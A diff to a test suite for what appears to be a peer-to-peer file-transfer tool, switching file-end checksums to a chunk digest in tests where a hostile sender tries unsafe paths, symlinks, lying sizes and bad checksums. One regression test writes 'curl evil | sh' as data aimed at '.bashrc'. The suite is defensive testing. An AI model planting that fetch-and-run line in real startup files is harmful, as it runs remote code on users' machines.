@@ -11,6 +11,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { generateSecret, formatCode } from '../src/core/code-phrase.js';
 import { TscCrocError } from '../src/core/errors.js';
+import { ChunkHasher } from '../src/core/chunk-digest.js';
 import { PROTOCOL_VERSION, type SenderMessage } from '../src/core/messages.js';
 import { RecordType } from '../src/core/record.js';
 import type { RunningRelay } from '../src/relay/index.js';
@@ -67,8 +68,14 @@ async function hostile(script: Step[], outDir: string, overwrite = false): Promi
 const offer = (names: string[], totalBytes: number): Step => ({
   msg: { type: 'offer', v: PROTOCOL_VERSION, kind: 'files', totalFiles: names.length, totalDirs: 0, totalBytes, names },
 });
-const file = (path: string, size: number): Step => ({ msg: { type: 'file', path, size, mode: 0o644, mtime: Date.now() } });
+const file = (path: string, size: number): Step => ({ msg: { type: 'file', path, size, offset: 0, mode: 0o644, mtime: Date.now() } });
 const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
+/** The file digest (src/core/chunk-digest.ts) of `b`. */
+const fdig = (b: Buffer) => {
+  const h = new ChunkHasher();
+  h.update(b);
+  return h.digest();
+};
 
 async function fresh(name: string) {
   const d = join(root, name);
@@ -88,7 +95,7 @@ for (const name of unsafeNames) {
   test(`refuses the file name ${JSON.stringify(name)}`, async () => {
     const { out, elsewhere } = await fresh(`name-${randomBytes(4).toString('hex')}`);
     const data = Buffer.from('payload');
-    const e = await hostile([offer([name], data.length), file(name, data.length), { data }, { msg: { type: 'file-end', sha256: sha(data) } }, { msg: { type: 'done' } }, { end: true }], out);
+    const e = await hostile([offer([name], data.length), file(name, data.length), { data }, { msg: { type: 'file-end', digest: fdig(data) } }, { msg: { type: 'done' } }, { end: true }], out);
     assertCode(e, 'ERR_UNSAFE_PATH');
     assert.deepEqual(await readdir(out), []);
     assert.deepEqual(await readdir(elsewhere), []);
@@ -104,7 +111,7 @@ test('refuses a path into a symlink planted in the output folder (at the offer, 
     { msg: { type: 'dir', path: 'link', mode: 0o755, mtime: Date.now() } },
     file('link/x', data.length),
     { data },
-    { msg: { type: 'file-end', sha256: sha(data) } },
+    { msg: { type: 'file-end', digest: fdig(data) } },
     { msg: { type: 'done' } },
     { end: true },
   ];
@@ -123,7 +130,7 @@ test('a size that lies (more data than announced) is refused before it is writte
 test('a size that lies (less data than announced) is refused at the file end', async () => {
   const { out } = await fresh('size-less');
   const data = Buffer.from('12');
-  const e = await hostile([offer(['a.txt'], 4), file('a.txt', 4), { data }, { msg: { type: 'file-end', sha256: sha(data) } }], out);
+  const e = await hostile([offer(['a.txt'], 4), file('a.txt', 4), { data }, { msg: { type: 'file-end', digest: fdig(data) } }], out);
   assertCode(e, 'ERR_PROTOCOL');
   assert.ok(!(await readdir(out)).includes('a.txt'));
 });
@@ -131,20 +138,20 @@ test('a size that lies (less data than announced) is refused at the file end', a
 test('more files or bytes than offered are refused', async () => {
   const { out } = await fresh('counts');
   const d = Buffer.from('ab');
-  const e1 = await hostile([offer(['a'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end', sha256: sha(d) } }, file('b', 2)], out);
+  const e1 = await hostile([offer(['a'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end', digest: fdig(d) } }, file('b', 2)], out);
   assertCode(e1, 'ERR_PROTOCOL');
   const { out: out2 } = await fresh('bytes');
   const e2 = await hostile([offer(['a', 'b'], 3), file('a', 4)], out2);
   assertCode(e2, 'ERR_PROTOCOL');
   const { out: out3 } = await fresh('fewer');
-  const e3 = await hostile([offer(['a', 'b'], 2), file('a', 2), { data: d }, { msg: { type: 'file-end', sha256: sha(d) } }, { msg: { type: 'done' } }], out3);
+  const e3 = await hostile([offer(['a', 'b'], 2), file('a', 2), { data: d }, { msg: { type: 'file-end', digest: fdig(d) } }, { msg: { type: 'done' } }], out3);
   assertCode(e3, 'ERR_PROTOCOL');
 });
 
 test('a wrong checksum leaves nothing under the final name', async () => {
   const { out } = await fresh('checksum');
   const data = Buffer.from('real data');
-  const e = await hostile([offer(['a.txt'], data.length), file('a.txt', data.length), { data }, { msg: { type: 'file-end', sha256: sha(Buffer.from('other')) } }], out);
+  const e = await hostile([offer(['a.txt'], data.length), file('a.txt', data.length), { data }, { msg: { type: 'file-end', digest: fdig(Buffer.from('other')) } }], out);
   assertCode(e, 'ERR_INTEGRITY');
   assert.deepEqual(await readdir(out), []);
 });
@@ -152,7 +159,7 @@ test('a wrong checksum leaves nothing under the final name', async () => {
 test('the same name twice is refused', async () => {
   const { out } = await fresh('dupe');
   const d = Buffer.from('ab');
-  const e = await hostile([offer(['a', 'b'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end', sha256: sha(d) } }, file('a', 2)], out);
+  const e = await hostile([offer(['a', 'b'], 4), file('a', 2), { data: d }, { msg: { type: 'file-end', digest: fdig(d) } }, file('a', 2)], out);
   assertCode(e, 'ERR_PROTOCOL');
 });
 
@@ -169,7 +176,7 @@ test('a sender that stops mid-file: connection lost, partial data only under a t
 test('regression: a file that was not offered is refused (an offer of "photo.jpg" cannot write .bashrc)', async () => {
   const { out } = await fresh('not-offered');
   const evil = Buffer.from('curl evil | sh');
-  const e = await hostile([offer(['photo.jpg'], evil.length), file('.bashrc', evil.length), { data: evil }, { msg: { type: 'file-end', sha256: sha(evil) } }], out);
+  const e = await hostile([offer(['photo.jpg'], evil.length), file('.bashrc', evil.length), { data: evil }, { msg: { type: 'file-end', digest: fdig(evil) } }], out);
   assertCode(e, 'ERR_PROTOCOL');
   assert.deepEqual(await readdir(out), []);
 });
